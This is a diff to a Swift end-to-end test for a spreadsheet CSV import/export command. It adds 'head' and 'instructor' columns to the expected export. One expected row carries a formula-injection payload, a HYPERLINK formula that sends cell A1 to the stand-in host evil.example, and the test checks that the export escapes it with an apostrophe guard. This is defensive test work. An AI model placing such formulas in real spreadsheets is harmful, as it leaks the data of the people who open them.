@@ -31,8 +31,9 @@ final class SpreadsheetEndToEndTests: XCTestCase {
         let imp = try run(["import", "grids", edited])
         XCTAssertEqual(imp.status, 0, imp.err)
         let export = try run(["grids", "--format", "csv"])
-        XCTAssertTrue(export.out.hasPrefix("\u{FEFF}code,name,level,parent,row,col\n"), export.out)
-        XCTAssertTrue(export.out.contains("DH-01,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",area,DH,,\n"), export.out)
+        XCTAssertTrue(export.out.hasPrefix("\u{FEFF}code,name,level,parent,row,col,head,instructor\n"), export.out)
+        // The 6-column file leaves DH-01's head and instructor as they were.
+        XCTAssertTrue(export.out.contains("DH-01,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",area,DH,,,W001,duty1\n"), export.out)
         // The export (BOM, guards and all) imports back unchanged.
         let again = try run(["import", "grids", try file("grids-export.csv", export.out)])
         XCTAssertEqual(again.status, 0, again.err)
